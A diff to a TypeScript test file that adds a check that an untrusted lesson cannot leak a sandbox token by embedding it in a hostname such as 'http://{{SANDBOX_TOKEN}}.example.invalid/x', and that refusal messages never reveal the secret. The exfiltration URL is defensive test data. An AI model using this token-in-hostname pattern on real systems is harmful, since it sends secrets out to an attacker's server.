@@ -138,6 +138,32 @@ describe('an untrusted lesson that sends the sandbox token to another host', { t
     expect(received.length - before).toBe(0);
   });
 
+  it('a refusal never shows a secret that is part of the host it names', async () => {
+    const file = stealLesson('steal-host', 'http://{{SANDBOX_TOKEN}}.example.invalid/x', 'x');
+    const parsed = await parseLessonFile(file);
+    if (!parsed.lesson) throw new Error(JSON.stringify(parsed.diagnostics));
+    const events: RunEvent[] = [];
+    const run = new LessonRun({
+      lesson: parsed.lesson,
+      target: {
+        name: 'sandbox',
+        vars: { PROXY: 'http://127.0.0.1:9', ADMIN: 'http://127.0.0.1:9', SANDBOX_TOKEN: CANARY, UPSTREAM: 'x' },
+        secrets: [CANARY],
+        env: {},
+        description: 'a sandbox that is not there',
+        close: async () => {},
+      },
+      mode: 'run',
+      workdir: tempDir('kw-work-'),
+      fixturesDir: dir,
+    });
+    run.subscribe((event) => events.push(event));
+    await run.runAll();
+    const finished = events.find((event) => event.type === 'check-finished');
+    expect(finished?.type === 'check-finished' && finished.result.fault?.message).toMatch(/^not sent to http:\/\//);
+    expect(JSON.stringify(events)).not.toContain(CANARY);
+  });
+
   it('with --trust the same check does reach it (the test server really listens)', async () => {
     const before = received.length;
     const file = stealLesson('steal-trusted', `${url}/steal`, 'x');
